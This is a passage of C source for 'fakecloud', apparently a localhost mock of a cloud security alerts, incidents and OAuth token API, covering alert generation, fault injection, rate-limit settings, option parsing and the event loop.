		graph_list_cb(&c, path, &q);
	else if (strncmp(path, "/v1.0/security/incidents", 24) == 0 &&
	    (path[24] == '\0' || path[24] == '/'))
		inc_list_cb(&c, path, &q);
	else if ((rest = strchr(path + 1, '/')) != NULL &&
	    strcmp(rest, "/oauth2/v2.0/token") == 0) {
		n = rest - path - 1;
		tname = url_decode(path + 1, n, NULL);
		token_cb(&c, tname);
		free(tname);
	} else {
		c.api = API_MDE;
		reply_error(&c, 404, "NotFound", "No HTTP resource was found "
		    "that matches the request URI.");
	}
	query_clear(&q);
}

/*
 * Generators and main loop.
 */

/* Publish late alerts whose time has come. */
static void
pending_publish(void)
{
	int64_t	 now = ts_now();
	size_t	 i;

	for (i = F.npend; i-- > 0;) {
		if (F.pend[i]->visible_at > now)
			continue;
		alert_publish(F.pend[i]);
		F.pend[i] = F.pend[--F.npend];
	}
}

static void
generate_one(void)
{
	struct tenant	*t = F.tenants[F.rr++ % F.ntenants];
	struct alert	*a;
	int64_t		 now = ts_now();

	a = alert_new(t, now);
	F.generated++;
	if (F.late_fraction > 0 && rng_unit(&F.rng) < F.late_fraction)
		alert_schedule(a, a->lut + F.late_delay_ms * TICKS_PER_MS);
	else
		alert_publish(a);
}

static void
update_one(void)
{
	struct tenant	*t = F.tenants[rng_below(&F.rng, F.ntenants)];

	if (t->n > 0)
		alert_bump(t->v[rng_below(&F.rng, t->n)]);
}

/* A new incident over some alerts of the next tenant (--incident-rate). */
static void
incident_one(void)
{
	static size_t	 next;
	struct tenant	*t = F.tenants[next++ % F.ntenants];

	if (t->n > 0)
		inc_new(t);
}

static void
tick_cb(evutil_socket_t fd, short what, void *arg)
{
	static uint64_t	 ngen, nupd, ninc;
	double		 secs = (double)(mono_ms() - F.start_ms) / 1000.0;
	uint64_t	 due;

	due = (uint64_t)(secs * F.rate);
	for (; ngen < due; ngen++)
		generate_one();
	due = (uint64_t)(secs * F.update_rate);
	for (; nupd < due; nupd++)
		update_one();
	due = (uint64_t)(secs * F.incident_rate);
	for (; ninc < due; ninc++)
		incident_one();
	pending_publish();
	held_poll();
}

static void
signal_cb(evutil_socket_t sig, short what, void *arg)
{
	log_debug("signal %d, exiting", (int)sig);
	event_base_loopexit(F.base, NULL);
}

static void
usage(void)
{
	fprintf(stderr,
"usage: fakecloud [-v] [-p PORT] [--port-file FILE] [-t NAME]...\n"
"       [--tenants N]"
"       [--client-id ID] [--client-cert FILE]... [--token-lifetime SECS]\n"
"       [--alerts N] [--spread DUR]\n"
"       [--rate R] [--update-rate R] [--incident-rate R]\n"
"       [--late-fraction F] [--late-delay DUR]\n"
"       [--seed S] [--fault NAME:KIND[:ARG]]... [--nextlink] [--link-page N]\n"
"       [--no-rate-limit] [--limit-minute N] [--limit-hour N]\n"
"       [--limit-graph N] [--token-log FILE]\n"
"       [--federated ISSUER,SUBJECT] [--federated-cert FILE] [--require-alg ALG]\n");
	exit(64);
}

static double
opt_double(const char *s, const char *name)
{
	char	*end;
	double	 v;

	errno = 0;
	v = strtod(s, &end);
	if (errno != 0 || *end != '\0' || v < 0) {
		fprintf(stderr, "fakecloud: bad %s: %s\n", name, s);
		exit(64);
	}
	return v;
}

static long long
opt_int(const char *s, const char *name, long long max)
{
	char		*end;
	long long	 v;

	errno = 0;
	v = strtoll(s, &end, 10);
	if (errno != 0 || *end != '\0' || v < 0 || v > max) {
		fprintf(stderr, "fakecloud: bad %s: %s\n", name, s);
		exit(64);
	}
	return v;
}

static int64_t
opt_duration(const char *s, const char *name)
{
	int64_t	 ms;

	if (parse_duration_ms(s, &ms) != 0) {
		fprintf(stderr, "fakecloud: bad %s: %s\n", name, s);
		exit(64);
	}
	return ms;
}

/* Apply "NAME:KIND[:ARG]" (NAME may be "*"). */
static void
opt_fault(const char *spec)
{
	char	*copy = xstrdup(spec), *kind, *arg;
	size_t	 i;
	int	 bad = 0, found = 0;

	if ((kind = strchr(copy, ':')) == NULL)
		bad = 1;
	else {
		*kind++ = '\0';
		if ((arg = strchr(kind, ':')) != NULL)
			*arg++ = '\0';
		for (i = 0; i < F.ntenants && !bad; i++) {
			if (strcmp(copy, "*") != 0 &&
			    strcmp(copy, F.tenants[i]->name) != 0)
				continue;
			found = 1;
			bad = fault_set(F.tenants[i], kind, arg) != 0;
		}
	}
	if (bad || !found) {
		fprintf(stderr, "fakecloud: bad --fault: %s\n", spec);
		exit(64);
	}
	free(copy);
}

enum {
	OPT_PORT_FILE = 256, OPT_TENANTS, OPT_CLIENT_ID, OPT_LIFETIME,
	OPT_ALERTS, OPT_SPREAD, OPT_RATE, OPT_UPDATE_RATE, OPT_INCIDENT_RATE,
	OPT_LATE_FRACTION,
	OPT_LATE_DELAY, OPT_SEED, OPT_FAULT, OPT_NEXTLINK, OPT_LINK_PAGE, OPT_NO_LIMIT,
	OPT_CLIENT_CERT, OPT_LIMIT_MIN, OPT_LIMIT_HOUR, OPT_LIMIT_GRAPH,
	OPT_TOKEN_LOG, OPT_FEDERATED, OPT_FEDERATED_CERT, OPT_REQUIRE_ALG,
};

static const struct option longopts[] = {
	{ "port", required_argument, NULL, 'p' },
	{ "tenant", required_argument, NULL, 't' },
	{ "verbose", no_argument, NULL, 'v' },
	{ "help", no_argument, NULL, 'h' },
	{ "port-file", required_argument, NULL, OPT_PORT_FILE },
	{ "tenants", required_argument, NULL, OPT_TENANTS },
	{ "client-id", required_argument, NULL, OPT_CLIENT_ID },
	{ "client-cert", required_argument, NULL, OPT_CLIENT_CERT },
	{ "federated", required_argument, NULL, OPT_FEDERATED },
	{ "federated-cert", required_argument, NULL, OPT_FEDERATED_CERT },
	{ "require-alg", required_argument, NULL, OPT_REQUIRE_ALG },
	{ "token-lifetime", required_argument, NULL, OPT_LIFETIME },
	{ "alerts", required_argument, NULL, OPT_ALERTS },
	{ "spread", required_argument, NULL, OPT_SPREAD },
	{ "rate", required_argument, NULL, OPT_RATE },
	{ "update-rate", required_argument, NULL, OPT_UPDATE_RATE },
	{ "incident-rate", required_argument, NULL, OPT_INCIDENT_RATE },
	{ "late-fraction", required_argument, NULL, OPT_LATE_FRACTION },
	{ "late-delay", required_argument, NULL, OPT_LATE_DELAY },
	{ "seed", required_argument, NULL, OPT_SEED },
	{ "fault", required_argument, NULL, OPT_FAULT },
	{ "nextlink", no_argument, NULL, OPT_NEXTLINK },
	{ "link-page", required_argument, NULL, OPT_LINK_PAGE },
	{ "no-rate-limit", no_argument, NULL, OPT_NO_LIMIT },
	{ "limit-minute", required_argument, NULL, OPT_LIMIT_MIN },
	{ "limit-hour", required_argument, NULL, OPT_LIMIT_HOUR },
	{ "limit-graph", required_argument, NULL, OPT_LIMIT_GRAPH },
	{ "token-log", required_argument, NULL, OPT_TOKEN_LOG },
	{ NULL, 0, NULL, 0 },
};

/* Parse the command line; fault specs are kept for after the tenants. */
static void
parse_args(int argc, char **argv, char ***faults, size_t *nfaults)
{
	long long	 ntenants = 0, i;
	char		 name[32];
	int		 ch;

	while ((ch = getopt_long(argc, argv, "hp:t:v", longopts, NULL)) != -1) {
		switch (ch) {
		case 'p':
			F.port = (int)opt_int(optarg, "port", 65535);
			break;
		case 't':
			if (!name_valid(optarg)) {
				fprintf(stderr, "fakecloud: bad tenant name: "
				    "%s\n", optarg);
				exit(64);
			}
			tenant_add(optarg);
			break;
		case 'v':
			F.verbose++;
			break;
		case OPT_PORT_FILE:
			F.port_file = optarg;
			break;
		case OPT_TENANTS:
			ntenants = opt_int(optarg, "tenants", 1000000);
			break;
		case OPT_CLIENT_ID:
			F.client_id = optarg;
			break;
		case OPT_CLIENT_CERT:
			assertion_cert_add(optarg);
			break;
		case OPT_FEDERATED:
			federated_add(optarg);
			break;
		case OPT_FEDERATED_CERT:
			FED.cert = cert_read(optarg, "federated-cert");
			break;
		case OPT_REQUIRE_ALG:
			AC.require_alg = optarg;
			break;
		case OPT_LIFETIME:
			F.token_lifetime = (int)opt_int(optarg,
			    "token-lifetime", 86400 * 365);
			break;
		case OPT_ALERTS:
			F.prepop = (size_t)opt_int(optarg, "alerts", 100000000);
			break;
		case OPT_SPREAD:
			F.spread_ms = opt_duration(optarg, "spread");
			break;
		case OPT_RATE:
			F.rate = opt_double(optarg, "rate");
			break;
		case OPT_UPDATE_RATE:
			F.update_rate = opt_double(optarg, "update-rate");
			break;
		case OPT_INCIDENT_RATE:
			F.incident_rate = opt_double(optarg, "incident-rate");
			break;
		case OPT_LATE_FRACTION:
			F.late_fraction = opt_double(optarg, "late-fraction");
			break;
		case OPT_LATE_DELAY:
			F.late_delay_ms = opt_duration(optarg, "late-delay");
			break;
		case OPT_SEED:
			F.seed = (uint64_t)opt_int(optarg, "seed", LLONG_MAX);
			break;
		case OPT_FAULT:
			*faults = xreallocarray(*faults, *nfaults + 1,
			    sizeof **faults);
			(*faults)[(*nfaults)++] = optarg;
			break;
		case OPT_NEXTLINK:
			F.nextlink = true;
			break;
		case OPT_LINK_PAGE:
			F.link_page = (size_t)opt_int(optarg, "link-page",
			    10000);
			break;
		case OPT_NO_LIMIT:
			F.limit_minute = F.limit_hour = F.limit_graph = 0;
			break;
		case OPT_LIMIT_MIN:
			F.limit_minute = (int)opt_int(optarg, "limit", 1000000);
			break;
		case OPT_LIMIT_HOUR:
			F.limit_hour = (int)opt_int(optarg, "limit", 1000000);
			break;
		case OPT_LIMIT_GRAPH:
			F.limit_graph = (int)opt_int(optarg, "limit", 1000000);
			break;
		case OPT_TOKEN_LOG:
			F.token_log = optarg;
			break;
		default:
			usage();
		}
	}
	if (optind != argc)
		usage();
	for (i = 1; i <= ntenants; i++) {
		snprintf(name, sizeof name, "tenant-%04lld", i);
		tenant_add(name);
	}
	if (F.ntenants == 0)
		tenant_add("tenant-0001");
}

/* Listen on 127.0.0.1:F.port and report the port chosen. */
static void
listen_start(void)
{
	struct evhttp_bound_socket	*bs;
	struct sockaddr_in		 sin;
	socklen_t			 len = sizeof sin;
	char				 s[32];

	F.http = evhttp_new(F.base);
	evhttp_set_allowed_methods(F.http, EVHTTP_REQ_GET | EVHTTP_REQ_POST |
	    EVHTTP_REQ_PUT | EVHTTP_REQ_DELETE | EVHTTP_REQ_HEAD |
	    EVHTTP_REQ_PATCH);
	evhttp_set_gencb(F.http, request_cb, NULL);
	evhttp_set_timeout(F.http, 120);
	bs = evhttp_bind_socket_with_handle(F.http, "127.0.0.1",
	    (ev_uint16_t)F.port);
	if (bs == NULL)
		fatal("bind 127.0.0.1:%d", F.port);
	if (getsockname(evhttp_bound_socket_get_fd(bs),
	    (struct sockaddr *)&sin, &len) == -1)
		fatal("getsockname");
	F.port = ntohs(sin.sin_port);
	printf("port=%d\n", F.port);
	fflush(stdout);
	if (F.port_file != NULL) {
		snprintf(s, sizeof s, "%d\n", F.port);
		if (file_write_atomic(F.port_file, s, strlen(s), 0644) != 0)
			fatal("%s", F.port_file);
	}
}

static void
shutdown_all(void)
{
	struct delayed	*d;
	size_t		 i;

	while ((d = TAILQ_FIRST(&F.delayed)) != NULL)
		delayed_send(d);
	assertion_free();
	evhttp_free(F.http);
	while (!LIST_EMPTY(&streams))
		stream_free(LIST_FIRST(&streams));
	event_free(F.tick);
	event_free(F.sigint);
	event_free(F.sigterm);
	for (i = 0; i < F.npend; i++)
		alert_free(F.pend[i]);
	free(F.pend);
	for (i = 0; i < F.ntenants; i++)
		tenant_free(F.tenants[i]);
	free(F.tenants);
	if (F.log != NULL) {
		for (i = 0; i < LOG_KEEP; i++) {
			free(F.log[i]);
			free(F.log_ua[i]);
			free(F.log_tok[i]);
		}
		free(F.log);
		free(F.log_ua);
		free(F.log_tok);
	}
	held_free_all();
	event_base_free(F.base);
	libevent_global_shutdown();
	OPENSSL_cleanse(F.key, sizeof F.key);
}

int
main(int argc, char **argv)
{
	struct timeval	 tv = { 0, TICK_MS * 1000 };
	char		**faults = NULL;
	size_t		 nfaults = 0, i;
	struct tenant	*t;

	F.client_id = DEF_CLIENT_ID;
	F.token_lifetime = 3599;
	F.spread_ms = 3600 * 1000;
	F.late_delay_ms = 600 * 1000;
	F.limit_minute = 100;
	F.limit_hour = 1500;
	F.limit_graph = 150;
	F.seed = (uint64_t)time(NULL) ^ (uint64_t)getpid() << 16;
	TAILQ_INIT(&F.delayed);
	parse_args(argc, argv, &faults, &nfaults);
	log_init(LOG_TARGET_STDERR, F.verbose, "fakecloud");
	qsort(F.tenants, F.ntenants, sizeof *F.tenants, tenant_cmp);
	for (i = 0; i < nfaults; i++)
		opt_fault(faults[i]);
	free(faults);
	for (i = 0; i < F.ntenants; i++) {
		t = F.tenants[i];
		t->rl_min.cap = (size_t)F.limit_minute;
		t->rl_hour.cap = (size_t)F.limit_hour;
		t->rl_graph.cap = (size_t)F.limit_graph;
	}
	F.rng.s = F.seed;
	if (RAND_bytes(F.key, sizeof F.key) != 1)
		fatalx("RAND_bytes failed");
	RAND_bytes((unsigned char *)&F.xrng.s, sizeof F.xrng.s);
	log_debug("seed %" PRIu64 ", %zu tenants", F.seed, F.ntenants);
	signal(SIGPIPE, SIG_IGN);
	if ((F.base = event_base_new()) == NULL)
		fatalx("event_base_new failed");
	tenants_populate();
	listen_start();
	F.start_ms = mono_ms();
	F.tick = event_new(F.base, -1, EV_PERSIST, tick_cb, NULL);
	event_add(F.tick, &tv);
	F.sigint = evsignal_new(F.base, SIGINT, signal_cb, NULL);
	F.sigterm = evsignal_new(F.base, SIGTERM, signal_cb, NULL);
	event_add(F.sigint, NULL);
	event_add(F.sigterm, NULL);
	event_base_dispatch(F.base);
	shutdown_all();
	return 0;
}
